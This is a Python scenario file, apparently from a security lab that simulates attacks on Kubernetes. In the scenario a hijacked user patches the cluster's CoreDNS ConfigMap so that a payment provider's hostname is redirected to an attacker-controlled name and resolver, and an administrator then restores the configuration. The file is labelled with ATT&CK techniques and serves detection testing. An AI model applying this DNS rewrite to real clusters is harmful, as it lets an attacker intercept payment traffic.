"""The cluster's DNS configuration is changed to send a name elsewhere."""

from lab.client import MERGE
from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    thief = stage.hijack("frank")
    path = "/api/v1/namespaces/kube-system/configmaps/coredns"
    before = stage.must(thief.get(path)).json["data"]
    corefile = ".:53 {\n  rewrite name pay.example.com trap.example.net\n  forward . 192.0.2.53\n}\n"
    with stage.step("change the DNS", thief, "credential-access", ("I02",)):
        stage.must(thief.patch(path, {"data": {"Corefile": corefile}}, MERGE))
    with stage.step("the administrator restores it", "kubernetes-admin", kind="confounder"):
        stage.admin().patch(path, {"data": before}, MERGE)


SCENARIO = Scenario(
    "dns-poison",
    "Cluster DNS is changed",
    "attack",
    "read the traffic to the payment provider",
    ("T1557", "T1565"),
    _play,
)
